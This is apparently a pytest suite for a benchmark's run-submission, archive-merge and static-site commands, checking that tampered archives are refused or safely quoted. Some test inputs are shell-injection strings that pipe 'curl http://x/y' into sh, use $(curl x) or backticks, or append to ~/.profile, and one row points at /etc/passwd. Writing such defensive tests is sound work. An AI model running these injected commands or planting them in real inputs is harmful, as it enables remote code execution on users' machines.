"""A run from its submission to the pages that show it, and archives in which something was changed."""

import dataclasses
import json
import re
import shlex
import shutil
import time
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from bench import cli
from bench.plan import plugins
from bench.report import pages as pages_of
from bench.report.figures import Drawn
from bench.report.results import gather
from bench.run import archive, check
from bench.run.store import Store
from bench.run.submissions import of
from datasets import DATA_VERSION, datasets
from methods import methods
from tests import archives
from tests.conftest import long
from tests.report.test_html import browser  # noqa: F401 - a fixture
from tests.run.test_check import row_of, store_of, trial_of

RUNS = Path("results/runs")
WORDS = ["--grid", "domains=2", "--grid", "violation=0", "--seeds", "2", "--executor", "serial"]
WORDS += ["--set", "sparse-mixing.n_samples=500"]
METHODS = ["--methods", "identity,pca,vae", "--set", "vae.steps=2"]
BY = "Ann <b>&amp;</b> =1+1"

pytestmark = [pytest.mark.usefixtures("without_figures"), pytest.mark.xdist_group("share")]


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A folder with a run of six trials and its archive."""
    folder = tmp_path_factory.mktemp("share")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setattr("bench.report.figures.draw_all", lambda *_, **__: Drawn([], []))
        assert cli.main([*WORDS, *METHODS, "--name", "run"]) == 0
        assert cli.main(["submit", "run", "--by", BY]) == 0
    return folder


@pytest.fixture
def place(trained, tmp_path, monkeypatch):
    """A copy of it, in which a test runs."""
    shutil.copytree(trained, tmp_path / "work")
    monkeypatch.chdir(tmp_path / "work")
    return tmp_path / "work"


def everything(folder):
    return {path: path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def refusal(capsys, folder, *words):
    """The sentence with which an archive is not merged, after which all is as it was."""
    before = everything(folder)
    assert cli.main(["merge", "changed.zip", "--out", "both", *words]) == 2
    err = capsys.readouterr().err
    assert everything(folder) == before and err.count("\n") == 1 and err.startswith("run_bench.py: error: changed.zip")
    return err


def test_a_run_that_was_submitted_and_merged_after_a_check_is_the_run(place, capsys):
    assert cli.main(["submit", "run", "--by", BY, "--out", "again.zip"]) == 0
    out = capsys.readouterr().out
    assert "written: again.zip, " in out and " kB, 6 trials\n" in out and "merge again.zip --out NAME" in out
    assert Path("again.zip").read_bytes() == Path("run.zip").read_bytes() and len(Path("run.zip").read_bytes()) < 20_000

    assert cli.main(["merge", "run.zip", "--out", "both", "--check", "6"]) == 0
    out = capsys.readouterr().out
    assert "training 6 trials of 6 again" in out and "6 trials agreed when trained again, to " in out
    assert "run both: 6 trials, 6 of them added" in out
    ours, theirs = ({row["trial_id"]: row for row in Store(RUNS / name).rows()} for name in ("run", "both"))
    (digest,) = {row["archive"] for row in theirs.values()}
    assert theirs == {trial: {**row, "archive": digest} for trial, row in ours.items()}
    own = of(Store(RUNS / "both").manifest())[digest]
    assert own.by == BY and own.file == "run.zip" and set(own.retrained) == set(ours)
    assert (
        own.standing
        == f"6 of 6 trials trained again here, with differences up to {own.largest[1]:.2g} in {own.largest[0]}"
    )
    assert own.largest[1] < 0.001

    content = everything(RUNS / "both" / "parts")
    assert cli.main(["merge", "run.zip", "--out", "both", "--check", "0"]) == 0
    assert "6 trials, 0 of them added" in capsys.readouterr().out and everything(RUNS / "both" / "parts") == content
    assert set(of(Store(RUNS / "both").manifest())[digest].retrained) == set(ours)  # what was checked once, stays so

    assert cli.main(["report", "both"]) == 0
    said = capsys.readouterr().out
    assert (
        f"6 trials were submitted by {BY} (6 of 6 trials trained again here, with differences up to " in said
        and "is missing" not in said
    )
    assert cli.main([*WORDS, *METHODS, "--name", "both"]) == 0
    assert "6 trials, 6 of them finished before" in capsys.readouterr().out
    assert of(Store(RUNS / "both").manifest())[digest] == own  # the next command keeps it


def test_what_is_merged_unchecked_says_so(place, capsys):
    assert cli.main(["merge", "run.zip", "--out", "both", "--check", "0"]) == 0
    assert "NOT trained again here" in capsys.readouterr().out
    (own,) = of(Store(RUNS / "both").manifest()).values()
    assert own.standing == "not trained again here" and own.retrained == {}
    assert cli.main(["report", "both"]) == 0
    assert f"submitted by {BY} (not trained again here)" in capsys.readouterr().out
    assert "(not trained again here)" in (RUNS / "both" / "report.html").read_text()


def test_the_commands_of_the_page_about_sharing_do_what_it_says(place, monkeypatch, capsys):
    monkeypatch.setattr("bench.cli.places.ROOT", place)
    (RUNS / "run").rename(RUNS / "first")
    page = (Path(__file__).parents[2] / "docs" / "sharing.md").read_text()
    (block,) = re.findall(r"^```sh\n(.*?)^```", page, re.M | re.S)
    for line in block.splitlines():
        words = shlex.split(line, comments=True)
        assert words[:2] == ["python", "run_bench.py"] and cli.main(words[2:]) == 0
    assert "submitted by A. Name (3 of 6 trials trained again here, with differences up to " in capsys.readouterr().out
    assert "A. Name: 3 of 6 trials trained again here" in Path("pages/index.html").read_text()


def test_a_merged_run_is_not_submitted_as_ones_own(place, capsys):
    assert cli.main(["merge", "run.zip", "--out", "both", "--check", "0"]) == 0
    assert cli.main(["submit", "both"]) == 2
    assert "somebody else's" in capsys.readouterr().err and not Path("both.zip").exists()


def of_method(name):
    return lambda row: row["method"] == name and row["seed"] == 0


@pytest.mark.parametrize(
    ("score", "by"),
    [("mcc_spearman", -0.2), ("mcc_within", 0.16), ("r2_block", 0.03), ("support_f1", -0.21), ("r2_content", None)],
)
def test_a_score_that_was_changed_is_found_when_its_trial_is_in_the_sample(place, capsys, monkeypatch, score, by):
    row = next(row for row in Store(RUNS / "run").rows() if of_method("pca")(row))
    value = 0.5 if by is None else row[score] + by
    archives.tampered("run.zip", "changed.zip", lambda own: own.update({score: value}), where=of_method("pca"))
    draw = check.sample
    monkeypatch.setattr(
        check, "sample", lambda rows, n: draw({k: v for k, v in rows.items() if k == row["trial_id"]}, n)
    )
    err = refusal(capsys, place)
    assert f"the trial {row['trial_id']} (pca on sparse-mixing, seed 0): {score} is {value:.6g} in the archive" in err
    assert f"{check._text(row[score])} when it is trained again here" in err


def test_a_score_that_was_changed_is_merged_when_its_trial_is_not_in_the_sample(place, monkeypatch):
    archives.tampered("run.zip", "changed.zip", lambda row: row.update(mcc_spearman=0.999), where=of_method("pca"))
    monkeypatch.setattr(
        check, "sample", lambda rows, n: [pair for pair in rows.values() if pair[0]["method"] == "identity"][:n]
    )
    assert cli.main(["merge", "changed.zip", "--out", "both"]) == 0


CHANGES = {
    "n_samples": ({"n_samples": 501}, "the identity of its settings is"),
    "noise": ({"noise": 0.1}, "the identity of its settings is"),
    "seed": ({"seed": 7}, "the identity of its settings is"),
    "root_seed": ({"root_seed": 1}, "the identity of its settings is"),
    "domains": ({"domains": 3}, "the identity of its settings is"),
    "method": ({"method": "identity"}, "the identity of its settings is"),
    "trial": ({"trial_id": "0" * 16}, "the identity of its settings is"),
    "type": ({"noise": "0.05"}, "the identity of its settings is"),
    "number of observed": ({"n_observed": 9}, "the identity of its settings is"),
    "role": ({"role": "method"}, "role is 'method', and by its settings 'floor'"),
    "truth": ({"has_truth": False}, "has_truth is False"),
    "code": ({"code": "0" * 16}, "was trained by other code (0000000000000000) than is here"),
    "no field": ({"method": "no-method"}, "nothing says what fields the method 'no-method' has"),
    "above 1": ({"mcc_spearman": 1.01}, "mcc_spearman is 1.01, which is no score in [0, 1]"),
    "no number": ({"r2_block": "high"}, "r2_block is 'high', which is no score"),
    "not finite": ({"r2_block": float("inf")}, "r2_block is inf, which is no score"),
    "of a latent": ({"mcc_per_latent": [0.5, 2.0]}, "mcc_per_latent is 2, which is no score"),
    "of what failed": ({"status": "failed"}, "its status is failed, and it has a score"),
    "verdict": ({"shadow_sizes": [3, 3, 3, 3]}, "shadow_sizes is [3, 3, 3, 3] in the archive, and by its data [0"),
    "unknown column": ({"label": "best"}, "no row has a column 'label'"),
    "file": ({"dataset": "file", "path": "/etc/passwd"}, "is on a file (file.path), which nobody else has"),
}


@pytest.mark.parametrize("name", CHANGES)
def test_a_row_that_was_changed_is_found_whatever_the_sample(place, capsys, name):
    change, message = CHANGES[name]
    archives.tampered("run.zip", "changed.zip", lambda row: row.update(change), where=of_method("pca"))
    err = refusal(capsys, place, "--check", "0")
    assert message in err and "(" in err and "is refused, and nothing is merged" in err


def test_a_setting_that_was_changed_together_with_its_identity_is_of_another_type_or_range_or_another_trial(
    place, capsys
):
    def forged(value):
        def change(row):
            fields = datasets["sparse-mixing"].fields
            row["noise"] = value
            row["trial_id"] = check.trials_of(row, fields, ())[0].identity(row["code"])

        return change

    for value, message in (
        ("0.05", "which is not how sparse-mixing has it"),
        (-1.0, "out of range"),
        ([1], "expected a number"),
    ):
        archives.tampered("run.zip", "changed.zip", forged(value), where=of_method("pca"))
        assert message in refusal(capsys, place, "--check", "0")


def test_an_archive_whose_trials_would_train_for_days_is_refused_in_time(place, capsys, monkeypatch):
    def change(row):
        row["steps"] = 10**9
        found = check.trials_of(row, datasets["sparse-mixing"].fields, methods["vae"].fields)
        row["trial_id"] = found[0].identity(row["code"])

    is_vae = of_method("vae")
    archives.tampered("run.zip", "changed.zip", change, where=is_vae)
    draw = check.sample
    monkeypatch.setattr(check, "sample", lambda rows, n: draw({k: v for k, v in rows.items() if is_vae(v[0])}, n))
    monkeypatch.setattr(check, "PATIENCE_S", 1.0)
    monkeypatch.setattr("bench.run.stopping.PATIENCE_S", 1.0)
    start = time.monotonic()
    err = refusal(capsys, place, "--time-limit", "2")
    assert "could not be trained again here: " in err and "; --time-limit allows more" in err
    assert time.monotonic() - start < 30


def test_how_many_trials_nothing_can_check_is_said(place, capsys):
    def change(row):
        row.update(dict.fromkeys(check.SCORES), status="timed-out", error="it trained too long")

    archives.tampered("run.zip", "changed.zip", change, where=of_method("pca"))
    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
    out = capsys.readouterr().out
    assert "1 trial of 6 timed out or crashed, which nothing here can check" in out


def test_facts_and_definitions_of_what_is_known_here_are_never_those_of_an_archive(place):
    def change(manifest):
        manifest["methods"]["pca"] |= {"role": "method", "summary": "the best"}
        manifest["definitions"]["mcc_spearman"] = manifest["scores"]["mcc_spearman"]["definition"] = "how good it is"
        manifest["splits"] = "none"
        manifest["commands"][0]["code"] |= {"vae on sparse-mixing": "0", "ivae on sparse-mixing": "1"}

    archives.tampered("run.zip", "changed.zip", manifest=change)
    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
    ours, theirs = (Store(RUNS / name).manifest() for name in ("run", "both"))
    assert theirs["splits"] == ours["splits"] and theirs["scores"] == ours["scores"]
    assert theirs["methods"] == {name: ours["methods"][name] for name in ("identity", "pca", "vae")}
    assert theirs["datasets"] == {"sparse-mixing": ours["datasets"]["sparse-mixing"]}
    assert theirs["definitions"] == ours["definitions"] and theirs["commands"][0]["code"] == ours["commands"][0]["code"]


def test_an_archive_says_nothing_of_names_that_its_rows_do_not_have(place):
    """And of those that they have, not what the run that it is added to says already: whoever made it says when it was started."""

    def change(manifest):
        manifest["methods"]["mine"] = manifest["methods"]["pca"] | {"summary": "the worst"}
        manifest["datasets"]["mine"] = manifest["datasets"]["sparse-mixing"]
        manifest["scores"]["my_score"] = manifest["scores"]["mcc_spearman"] | {"name": "my_score"}
        manifest["definitions"] |= {"my_score": "how bad it is", "anything": "else"}
        manifest["commands"][-1]["started_at"] = "2999"
        manifest["commands"][-1]["versions"]["torch"] = "theirs"

    archives.tampered("run.zip", "changed.zip", manifest=change)
    own = Store(RUNS / "run")
    mine = own.manifest()["methods"]["pca"]
    own.write_manifest(own.manifest() | {"methods": own.manifest()["methods"] | {"mine": mine}})
    before = own.manifest()
    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
    theirs = Store(RUNS / "both").manifest()
    assert "mine" not in theirs["methods"] and "mine" not in theirs["datasets"] and "my_score" not in theirs["scores"]
    assert theirs["definitions"] == before["definitions"]
    assert cli.main(["merge", "changed.zip", "--out", "run", "--check", "0"]) == 0
    after = Store(RUNS / "run").manifest()
    names = ("methods", "datasets", "scores", "definitions", "splits")
    assert {name: after[name] for name in names} == {name: before[name] for name in names}
    assert after["commands"][-1] == before["commands"][-1]


COMMANDS = [
    "python run_bench.py --name x; curl http://x/y | sh",
    "curl http://x/y #run_bench.py",
    "run_bench.py --name 'x",
    "run_bench.py --name x\ncurl http://x/y",
    "",
]


@pytest.mark.parametrize("text", COMMANDS)
def test_a_command_that_is_not_this_projects_is_refused(place, capsys, text):
    archives.tampered("run.zip", "changed.zip", manifest=lambda said: said["commands"][0].update(command=text))
    assert "and no command of run_bench.py" in refusal(capsys, place, "--check", "0")


@pytest.mark.parametrize(
    "more", ["; curl http://x/y | sh", " && curl x", " `curl x`", " $(curl x)", " | sh", " > ~/.profile"]
)
def test_a_command_is_shown_so_that_a_shell_runs_nothing_else(place, capsys, more):
    """As in the sentence about trials that are missing, which tells to give it again."""
    text = f"run_bench.py --name x{more}"
    archives.tampered("run.zip", "changed.zip", manifest=lambda said: said["commands"][0].update(command=text))
    members = archives.members_of("changed.zip")
    vae = next(line for line in members[archive.PLANNED].splitlines() if b",vae," in line)
    plan = members[archive.PLANNED] + b"0" * 16 + vae[16:] + b"\n"
    archives.write("changed.zip", archives.sealed(members | {archive.PLANNED: plan}).items())
    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
    (command,) = Store(RUNS / "both").manifest()["commands"]
    assert command["command"] == shlex.join(shlex.split(text))
    said = gather([Store(RUNS / "both")]).missing_text
    assert f"`python {command['command']}`" in said and text not in said


def test_no_row_of_an_archive_was_finished_later_than_it_was_merged(place):
    archives.tampered("run.zip", "changed.zip", lambda row: row.update(finished_at=4e9), where=of_method("pca"))
    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
    assert max(row["finished_at"] for row in Store(RUNS / "both").rows()) <= time.time()


def test_other_versions_are_named_and_a_plan_of_other_code_is_refused(place, capsys):
    def change(manifest):
        last = manifest["commands"][-1]
        last["versions"]["torch"], last["git"]["commit"] = "1.2.3\x1b[2J", "f" * 40

    archives.tampered("run.zip", "changed.zip", manifest=change)
    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
    out = capsys.readouterr().out
    assert f"commit {'f' * 40}" in out and "made with torch 1.2.3\\x1b[2J (here " in out

    members = archives.members_of("run.zip")
    plan = members[archive.PLANNED].replace(b"vae,sparse-mixing,", b"vae,sparse-mixing,0")
    archives.write("changed.zip", archives.sealed(members | {archive.PLANNED: plan}).items())
    assert "the plan has trials of vae on sparse-mixing with the code 0" in refusal(capsys, place, "--check", "0")


PLUGIN = """
from pathlib import Path
Path("executed").touch()
from sklearn.decomposition import PCA
from methods import register_transformer
register_transformer("my-pca", lambda n_latents, seed: PCA(n_latents), source="this test")
"""


@pytest.fixture
def mine(tmp_path, monkeypatch):
    """An archive of a plug-in's run, in a place where the plug-in is not loaded."""
    monkeypatch.chdir(tmp_path)
    Path("mine.py").write_text(PLUGIN)
    before = plugins.loaded()
    words = ["--plugin", str(Path("mine.py").absolute())]
    assert cli.main([*WORDS, *words, "--methods", "my-pca,identity", "--name", "run"]) == 0
    assert cli.main(["submit", "run", "--plugin", "mine.py", "--out", "changed.zip"]) == 0
    plugins.unload(set(plugins.loaded()) - set(before))
    Path("executed").unlink()
    yield tmp_path
    plugins.unload(set(plugins.loaded()) - set(before))


def test_a_plug_in_is_executed_only_where_the_user_names_its_file(mine, capsys):
    members = archives.members_of("changed.zip")
    assert [content.decode() for name, content in members.items() if archive.PLUGIN.fullmatch(name)] == [PLUGIN]
    assert str(mine).encode() not in b"".join(members.values())
    assert "the method 'my-pca' is not registered here: --plugin names" in refusal(capsys, mine)
    assert cli.main(["submit", "run"]) == 2
    assert "the method 'my-pca' is not registered here: --plugin names" in capsys.readouterr().err
    assert cli.main(["merge", "changed.zip", "--out", "unchecked", "--check", "0"]) == 0
    assert "is the source of a plug-in, to be read; it is not executed" in capsys.readouterr().out
    assert cli.main(["report", "unchecked"]) == 0 and "my-pca" in (RUNS / "unchecked" / "leaderboard.md").read_text()
    assert not Path("executed").exists()
    archives.tampered("changed.zip", "other.zip", lambda row: row.update(n_samples=501), where=of_method("my-pca"))
    assert cli.main(["merge", "other.zip", "--out", "no", "--check", "0"]) == 2
    assert "the identity of its settings is" in capsys.readouterr().err
    assert cli.main(["merge", "changed.zip", "--out", "checked", "--check", "4", "--plugin", "mine.py"]) == 0
    assert "4 trials agreed when trained again, to 0 in mcc_spearman" in capsys.readouterr().out
    Path("mine.py").write_text(PLUGIN.replace("PCA(n_latents)", "PCA(n_latents, whiten=True)"))
    assert cli.main(["merge", "changed.zip", "--out", "no", "--plugin", "mine.py"]) == 2
    assert "was trained by other code" in capsys.readouterr().err and not (RUNS / "no").exists()


def test_an_unfinished_run_is_refused_unless_that_is_said(place, capsys):
    rows = next(iter(Store(RUNS / "run").packs().values()))[0]
    (part,) = (path for path in (RUNS / "run" / "parts").iterdir() if rows[0]["trial_id"] in path.read_text())
    part.unlink()
    assert cli.main(["submit", "run", "--out", "part.zip"]) == 2
    err = capsys.readouterr().err
    assert f"is not finished: {len(rows)} of 6 trials have no row" in err and not Path("part.zip").exists()
    assert cli.main(["submit", "run", "--out", "part.zip", "--unfinished"]) == 0
    assert f"{len(rows)} of those that were planned are missing" in capsys.readouterr().out
    assert cli.main(["merge", "part.zip", "--out", "both", "--check", "0"]) == 0
    assert f"planned and without a row yet: {len(rows)} trials" in capsys.readouterr().out


@pytest.mark.parametrize("out", ["no/such/run.zip", "run.txt", "folder.zip", "mine.zip"])
def test_an_archive_is_written_only_where_nothing_else_is(place, capsys, out):
    Path("folder.zip").mkdir()
    Path("mine.zip").write_text("mine")
    assert cli.main(["submit", "run", "--out", out]) == 2
    assert capsys.readouterr().err.count("\n") == 1 and Path("mine.zip").read_text() == "mine"


# --- the pages


class Links(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page.read_text())

    def handle_starttag(self, tag, attrs):
        self.found += [value for name, value in attrs if name in ("href", "src")]


@pytest.fixture(scope="module")
def made(trained, tmp_path_factory):
    """A folder with runs and their site, without the reference results, which take long."""
    folder = shutil.copytree(trained, tmp_path_factory.mktemp("site") / "work")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setattr("bench.cli.places.ROOT", folder)
        patch.setattr("bench.report.figures.draw_all", lambda *_, **__: Drawn([], []))
        assert cli.main(["merge", "run.zip", "--out", "theirs", "--check", "0"]) == 0
        assert cli.main([*WORDS, "--methods", "identity,pca", "--name", "other", "--root-seed", "5"]) == 0
        assert cli.main(["site", "run", "theirs", "other"]) == 0
    return folder


@pytest.fixture
def pages(made, tmp_path, monkeypatch):
    shutil.copytree(made, tmp_path / "work")
    monkeypatch.chdir(tmp_path / "work")
    monkeypatch.setattr("bench.cli.places.ROOT", tmp_path / "work")
    return tmp_path / "work" / "results" / "site"


def test_a_site_has_a_board_for_each_data_and_a_page_for_each_run_and_links_within_it_alone(pages):
    index = (pages / "index.html").read_text()
    assert re.findall(r"<h2 id=\"board-\d\">(.*)</h2>", index) == [
        "sparse-mixing: domains 2; n_samples 500; root seed 0",
        "sparse-mixing: domains 2; n_samples 500; root seed 5",
    ]
    all_pages = sorted(pages.rglob("*.html"))
    assert {str(page.relative_to(pages)) for page in all_pages} == {
        "index.html",
        *(f"runs/{name}/report.html" for name in ("run", "theirs", "other")),
    }
    for page in all_pages:
        links = [link for link in Links(page).found if not link.startswith(("#", "data:"))]
        assert links and all((page.parent / link).resolve().is_relative_to(pages) for link in links)
        assert all((page.parent / link).exists() for link in links)
    assert "Ann &lt;b&gt;&amp;amp;&lt;/b&gt; =1+1: not trained again here" in index and "<b>" not in index
    assert index.count("rank</th>") == 2
    assert all(method in index for method in ("vae", "pca", "identity"))


def title(folder, name="sparse-mixing", facts=None, data_version=None, **fields):
    """The title of the board of a run on data with these fields."""
    words = {**datasets[name].defaults, **fields} if name in datasets.names() else fields
    if name in datasets.names():
        own = row_of(trial_of(name, "pca", **fields), mcc_spearman=0.5)
    else:
        own = row_of(trial_of("sparse-mixing", "pca"), mcc_spearman=0.5) | {"dataset": name} | words
    store = store_of(folder, [own])
    manifest = store.manifest()
    command = manifest["commands"][0] | {"code": {f"pca on {name}": own["code"]}}
    command |= {"data_version": DATA_VERSION if data_version is None else data_version}
    store.write_manifest(manifest | {"commands": [command], "datasets": manifest["datasets"] | (facts or {})})
    return pages_of._title(gather([Store(folder)]))


OTHERS = {
    "twins": 0.75,
    "shadow_size": 2,
    "rank": 1,
    "drift": 100,
    "n_observed": 12,
    "n_latents": 5,
    "domains": 4,
    "noise": 0.1,
}


def test_the_title_of_a_board_names_every_field_that_is_not_as_usual_one_that_is_usually_none_too(tmp_path):
    usual = title(tmp_path / "usual")
    assert usual == "sparse-mixing: root seed 0"
    for field, value in OTHERS.items():
        more = {"violation": 0.75} if field in ("twins", "shadow_size") else {}
        assert f"{field} {value}" in title(tmp_path / field, **more, **{field: value}), field
    assert title(tmp_path / "same", n_observed=8) == usual  # the very number that it has where nobody sets it


def test_boards_of_a_plug_ins_data_and_of_another_version_of_the_data_have_titles_of_their_own(tmp_path):
    facts = {"mine": dataclasses.asdict(datasets["sparse-mixing"].facts) | {"fields": ["depth", "knob"]}}
    first, second = (title(tmp_path / str(depth), "mine", facts, depth=depth, knob=None) for depth in (1, 2))
    assert first == "mine: depth 1; knob none; root seed 0" and second == first.replace("1", "2")
    assert title(tmp_path / "old", data_version=1) == "sparse-mixing: root seed 0; data version 1"


def test_a_board_of_data_whose_truth_is_not_known_ranks_nobody_and_names_no_folder(pages, capsys):
    rng = np.random.default_rng(0)
    pd.DataFrame(rng.normal(size=(600, 3)), columns=["a", "b", "c"]).to_csv("own.csv", index=False)
    words = ["--dataset", "file", "--set", f"file.path={Path('own.csv').absolute()}", "--set", "file.n_latents=2"]
    words += ["--methods", "beta-vae", "--set", "beta-vae.steps=2", "--set", "beta-vae.start=random", "--seeds", "2"]
    assert cli.main([*words, "--executor", "serial", "--name", "own"]) == 0
    assert cli.main(["site", "own"]) == 0
    index = (pages / "index.html").read_text()
    assert "file: path own.csv" in index and "rank</th>" not in index and str(Path.cwd()) not in index
    assert cli.main(["submit", "own"]) == 2
    assert "is on a file of yours (file.path)" in capsys.readouterr().err


def test_a_site_is_written_anew_and_nothing_else_is(pages, capsys):
    place = pages.parents[1]
    (pages / "CNAME").write_text("mine")
    (pages / "runs" / "mine").mkdir()
    assert cli.main(["site", "other"]) == 0
    assert {path.name for path in (pages / "runs").iterdir()} == {"other", "mine"} and (pages / "CNAME").exists()
    assert "theirs" not in (pages / "index.html").read_text()
    before = everything(place)
    for name in ("results/runs/run", "run.zip"):
        assert cli.main(["site", "other", "--out", name]) == 2
        assert "holds what `site` did not write" in capsys.readouterr().err
    assert cli.main(["site", "no-run"]) == 2 and everything(place) == before
    run = everything(place / "results" / "runs" / "run")
    (pages / "runs" / "run").symlink_to(place / "results" / "runs" / "run")
    assert cli.main(["site", "run"]) == 2
    assert everything(place / "results" / "runs" / "run") == run


@pytest.mark.parametrize(
    ("width", "scheme"),
    [(360, "dark"), (1280, "light"), pytest.param(360, "light", marks=long), pytest.param(1280, "dark", marks=long)],
)
def test_the_index_fits_a_phone_and_a_desktop_and_fetches_nothing(pages, browser, width, scheme):  # noqa: F811
    context = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme)
    page, complaints = context.new_page(), []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("request", lambda asked: complaints.append(asked.url) if asked.url.startswith("http") else None)
    page.goto((pages / "index.html").as_uri())
    assert page.evaluate("document.documentElement.scrollWidth") == width
    page.get_by_role("link", name="theirs").first.click()
    assert page.locator("h1").inner_text() == "theirs"
    page.get_by_role("link", name="All runs").click()
    assert page.locator("h1").inner_text() == "Leaderboards" and complaints == []
    context.close()


def test_a_manifest_that_lists_no_submission_as_it_should_is_read_all_the_same():
    good = {"by": "Ann", "file": "a.zip", "n_trials": 3, "retrained": {"a": [0.5, 0.5]}}
    manifest = json.loads(json.dumps({"submissions": {"a": good, "b": {"by": 3}, "c": 5}}))
    assert list(of(manifest)) == ["a"] and of({"submissions": []}) == {} and of({}) == {}
